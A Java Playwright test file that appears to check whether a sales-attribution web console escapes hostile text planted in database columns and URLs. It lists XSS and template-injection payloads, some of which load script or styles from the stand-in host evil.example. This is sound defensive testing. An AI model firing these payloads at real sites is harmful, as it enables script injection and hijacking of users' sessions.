package io.downfunnel.console;

import java.net.URI;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.stream.Collectors;

import jakarta.inject.Inject;

import com.microsoft.playwright.Browser;
import com.microsoft.playwright.Page;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import org.jdbi.v3.core.Jdbi;
import org.junit.jupiter.api.Test;

import io.downfunnel.Chromium;
import io.downfunnel.DownfunnelTestResource;
import io.downfunnel.Needs;
import io.downfunnel.domain.TrailEntry;
import io.downfunnel.store.Showcase;
import io.downfunnel.store.TrailStore;

import static org.assertj.core.api.Assertions.assertThat;

/** Whatever a CRM, a vendor, a mapping file or a person may have written is shown, and none of it ever runs. */
@Needs(Needs.Program.CHROMIUM)
@QuarkusTest
@QuarkusTestResource(DownfunnelTestResource.class)
class HostileTextTest {
    private static final List<String> PAYLOADS = List.of(
            "<script>window.owned=1</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "</title><script>window.owned=1</script>",
            "</textarea><script>window.owned=1</script>",
            "</option></select><script>window.owned=1</script>",
            "<img src=x onerror=window.owned=1>",
            "<img src=\"x\" onerror=\"window.owned=1\">",
            "<svg onload=window.owned=1>",
            "<svg><animate onbegin=window.owned=1 attributeName=x dur=1s>",
            "<svg><script>window.owned=1</script></svg>",
            "<math><mtext></table><mglyph><style><img src=x onerror=window.owned=1>",
            "<body onload=window.owned=1>",
            "<iframe srcdoc=\"<script>parent.owned=1</script>\"></iframe>",
            "<iframe src=javascript:parent.owned=1></iframe>",
            "<object data=javascript:window.owned=1>",
            "<details open ontoggle=window.owned=1>x</details>",
            "<input autofocus onfocus=window.owned=1>",
            "<a href=javascript:window.owned=1>click</a>",
            "<form action=javascript:window.owned=1><button>go</button></form>",
            "<meta http-equiv=refresh content=0;url=//evil.example/>",
            "<base href=//evil.example/>",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<style>body{display:none}</style>",
            "<div hx-get=/live hx-trigger=load hx-swap=outerHTML>x</div>",
            "<div hx-on::load=window.owned=1>x</div>",
            "\" onmouseover=\"window.owned=1\" x=\"",
            "' onfocus='window.owned=1' autofocus x='",
            "\"><script>window.owned=1</script>",
            "'><img src=x onerror=window.owned=1>",
            "--><script>window.owned=1</script>",
            "<!--<img src=\"--><img src=x onerror=window.owned=1>\">",
            "{cdi:visitor.token}{#if true}owned{/if}{|raw|}",
            "${7*7}{{7*7}}<%= 7*7 %>",
            "javascript:window.owned=1//",
            "&lt;script&gt;window.owned=1&lt;/script&gt;",
            "\\u003cscript\\u003ewindow.owned=1\\u003c/script\\u003e");

    /** Where text from elsewhere lies; a column each. */
    private static final List<String> PLACES = List.of(
            "organization.name",
            "campaign.name",
            "ad_account.name",
            "run.started_by",
            "run.node",
            "run_step.message",
            "connection_status.message",
            "connection_status.remedy",
            "alert.sentence",
            "brake.sentence",
            "brake.remedy",
            "release.by",
            "release.mapping",
            "mapping_gate.mapping",
            "mapping_gate.sentence",
            "mapping_gate.remedy",
            "conversion.mapping",
            "conversion.explanation",
            "conversion_transition.explanation",
            "conversion_transition.node",
            "adjustment.explanation",
            "adjustment_transition.explanation",
            "lead.status",
            "opportunity.stage_name",
            "opportunity_history.stage_name",
            "stage_event.crm_stage",
            "upload_batch.message");

    private static final List<String> PAGES = List.of(
            "/",
            "/alerts",
            "/conversions",
            "/conversions?state=on-hold",
            "/explain?q=" + Showcase.LEAD_IN_FIFTEEN,
            "/explain?q=" + Showcase.KEY_IN_DOUBT,
            "/explain?q=" + Showcase.SHARED_CLICK,
            "/hold",
            "/campaigns?account=google&days=365",
            "/connections",
            "/runs",
            "/runs/1",
            "/runs/2",
            "/runs/3",
            "/users",
            "/erasure",
            "/personal-data",
            "/audit");

    /** What comes with an address, or is typed. */
    private static final List<String> ECHOES = List.of(
            "/conversions?q=",
            "/conversions?mapping=",
            "/explain?q=",
            "/audit?who=",
            "/sign-in?next=",
            "/welcome?key=",
            "/connections?told=refused&platform=google&code=");

    @TestHTTPResource("/")
    URI here;

    @Inject
    Jdbi jdbi;

    @Inject
    TrailStore trail;

    private final List<String> executed = new CopyOnWriteArrayList<>();

    @Test
    void three_hundred_payloads_in_every_place_are_shown_and_none_runs() {
        assertThat(PAYLOADS.size() * (PLACES.size() + ECHOES.size() + 2)).isGreaterThan(300);
        plant();
        var anna = SignedIn.asAdmin(jdbi);
        try (var chromium = Chromium.start();
                var page = chromium.browser().newPage(new Browser.NewPageOptions().setViewportSize(1440, 900))) {
            anna.in(page.context(), here);
            listen(page);
            var shown = new LinkedHashSet<String>();
            for (var path : PAGES) {
                shown.addAll(visit(page, path));
            }
            for (var path : echoes()) {
                visit(page, path);
            }
            assertThat(executed).isEmpty();
            assertThat(shown)
                    .as("places that pages show, each with all payloads")
                    .hasSizeGreaterThan(17);
        }
    }

    private void plant() {
        Showcase.fill(jdbi, Instant.now());
        Showcase.alarm(jdbi);
        jdbi.useTransaction(sql -> {
            for (var place : PLACES) {
                var parts = place.split("\\.");
                // Past the guards of states and histories: it is only about what pages make of it.
                sql.execute("alter table " + parts[0] + " disable trigger user");
                sql.execute("update " + parts[0] + " set " + parts[1] + " = ?", text(place));
                sql.execute("alter table " + parts[0] + " enable trigger user");
            }
            for (var payload : PAYLOADS) {
                sql.execute(
                        "insert into console_user (name, role, added_by) values (?, 'VIEWER', ?) on conflict do nothing",
                        payload,
                        payload);
            }
        });
        PAYLOADS.forEach(payload -> trail.append(new TrailEntry(payload, TrailEntry.What.RELEASED, payload, payload)));
    }

    private static String text(String place) {
        return "@" + place + "@ " + String.join(" ", PAYLOADS);
    }

    private List<String> echoes() {
        var paths = new ArrayList<String>();
        for (var path : ECHOES) {
            for (int from = 0; from < PAYLOADS.size(); from += 6) {
                var some = String.join(" ", PAYLOADS.subList(from, Math.min(from + 6, PAYLOADS.size())));
                paths.add(path + URLEncoder.encode(some, StandardCharsets.UTF_8));
            }
        }
        return paths;
    }

    /** A violation of the security policy counts too: it says that something of ours let an element through. */
    private void listen(Page page) {
        page.onPageError(error -> executed.add("error: " + error));
        page.onDialog(dialog -> {
            executed.add("dialog: " + dialog.message());
            dialog.dismiss();
        });
        page.onConsoleMessage(message -> {
            if (message.type().equals("error") && !message.text().matches(".*\\b(404|410)\\b.*")) {
                executed.add("console: " + message.text());
            }
        });
        page.onRequest(request -> {
            if (!request.url().startsWith(here.toString())) {
                executed.add("request: " + request.url());
            }
        });
    }

    /** @return the places whose text is shown, with every payload as it was written */
    private Set<String> visit(Page page, String path) {
        page.navigate(here.resolve(path).toString());
        if (!"undefined".equals(page.evaluate("typeof window.owned"))) {
            executed.add("ran on " + path);
        }
        var foreign = page.evaluate("""
                [...document.querySelectorAll('script:not([src^="/webjars/"], [src^="/charts.js?"]), iframe, object, img, base, style, math, '
                    + '[onload], [onerror], [onfocus], [ontoggle], [onmouseover], [onbegin], [href^="javascript:"], [hx-on\\\\:\\\\:load]')]
                    .map(each => each.outerHTML.slice(0, 80))""");
        if (!foreign.equals(List.of())) {
            executed.add("elements on " + path + ": " + foreign);
        }
        var text = page.evaluate("document.body.textContent").toString().replaceAll("\\s+", " ");
        return PLACES.stream().filter(place -> text.contains(text(place))).collect(Collectors.toSet());
    }
}
